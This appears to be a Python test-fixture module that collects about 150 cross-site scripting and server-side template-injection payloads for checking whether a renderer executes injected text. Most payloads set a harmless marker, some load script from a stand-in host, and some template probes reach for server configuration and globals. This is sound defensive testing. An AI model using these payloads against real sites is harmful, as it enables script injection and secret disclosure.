"""A hundred and fifty and more texts that would like to be code: HTML, attributes, scripts, templates, SVG, addresses.

Whatever runs says so in ``window.__pwned`` or opens a dialog. ``{{7919*7}}`` is 55433 to whoever evaluates it.
"""

from __future__ import annotations

RUN = "window.__pwned=1"
DIALOG = "alert(1)"
EVALUATED = "55433"

_ELEMENTS = [
    f"<script>{RUN}</script>", "<script src=//evil.example/x.js></script>", f"<SCRIPT>{DIALOG}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</script>", f"<script>{RUN}//", f"<script\x0c>{RUN}</script>", f"<script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>", f"<img src=x onerror\x0a={RUN}>", f"<img src onerror={DIALOG}>",
    "<img src=x:x onerror=import('//e')>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", f"<math><mtext><img src=x onerror={RUN}></math>",
    f"<body onload={RUN}>", "<iframe srcdoc='<script>parent.__pwned=1</script>'>", f"<iframe src=javascript:{RUN}>",
    f"<object data='javascript:{RUN}'>", f"<embed src='javascript:{RUN}'>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<div style='animation:x' onanimationstart={RUN}>x</div>", f"<a href=javascript:{RUN}>x</a>",
    f"<form><button formaction=javascript:{RUN}>x",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>", "<template><script>window.__pwned=1</script></template>",
    f"<s-link href='javascript:{RUN}'>x</s-link>", f"<s-button onclick={RUN}>x</s-button>",
    f"<s-modal onshow={RUN}>x</s-modal>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<xss id=x tabindex=1 onfocus={RUN}>", f"<slot onslotchange={RUN}>x</slot>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<portal src=javascript:{RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<isindex action=javascript:{RUN}>",
    f"<x onclick={RUN}>x",
]  # fmt: skip
_BREAKOUTS = [
    '"',
    "'",
    '">',
    "'>",
    "`",
    '"/>',
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</s-table-cell>",
    "\\",
]
_ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}', f"x onmouseover={RUN} y",
    f'" style="x:expression({RUN})',
    f'" href="javascript:{RUN}', f'"onclick="{RUN}"', f"' x='{RUN}", f'" srcdoc="<script>{RUN}</script>',
    '" data-open="x" data-submit="x',
    '" target="_top" href="//evil.example', '" class="dialog', '"></s-page><s-page heading="owned',
]  # fmt: skip
_SCRIPTS = [
    f"';{RUN};//", f'";{RUN};//', f"\\';{RUN};//", f"</script><script>{RUN}</script>", f"\u2028{RUN}//",
    f"\u2029{RUN}//", f"*/{RUN}/*",
    f"${{{RUN}}}", f"`+({RUN})+`", f"'-({RUN})-'", f'"+({RUN})+"', f"javascript:{RUN}", f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"javascript://%0a{RUN}",
    f"&#106;avascript:{RUN}",
]  # fmt: skip
_TEMPLATES = [
    "{{7919*7}}", "{{ 7919 * 7 }}", "{%if 1%}{{7919*7}}{%endif%}", "${7919*7}", "#{7919*7}", "<%= 7919*7 %>",
    "{{ 7919 | times: 7 }}",
    "{% assign x = 7919 | times: 7 %}{{ x }}", "{{config}}", "{{ ''.__class__.__mro__ }}", "{{ shop.secret }}",
    "{{ request.environ }}",
    "{% raw %}{{7919*7}}{% endraw %}", "{# {{7919*7}} #}", "{{ self.__init__.__globals__ }}", "{% include 'x' %}",
    "{%- liquid echo 7919 -%}",
    "{{'a'|attr('__class__')}}", "@(7919*7)", "[[${7919*7}]]", "{{constructor.constructor('window.__pwned=1')()}}",
    "{{=7919*7}}",
]  # fmt: skip
_ENCODED = [
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e", "\\x3cscript\\x3ewindow.__pwned=1",
    "+ADw-script+AD4-window.__pwned=1", "\ufeff<script>window.__pwned=1</script>",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e", "<\u200bscript>window.__pwned=1</script>",
    "\u202e<script>window.__pwned=1</script>", "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
    "<img src=x onerror=&#119;indow.__pwned=1>", "&NewLine;<img src=x onerror=window.__pwned=1>",
    "&lt;img src=x onerror=alert(1)&gt;", "<ımg src=x onerror=alert(1)>",
]  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_ELEMENTS,
            *(cut + f"<img src=x onerror={RUN}>" for cut in _BREAKOUTS),
            *(cut + f"<script>{RUN}</script>" for cut in _BREAKOUTS),
            *(cut + f"<svg onload={DIALOG}>" for cut in _BREAKOUTS),
            *(f"Mug {text}, blue" for text in _TEMPLATES[:8]),
            *_ATTRIBUTES,
            *_SCRIPTS,
            *_TEMPLATES,
            *_ENCODED,
        ]
    )
)
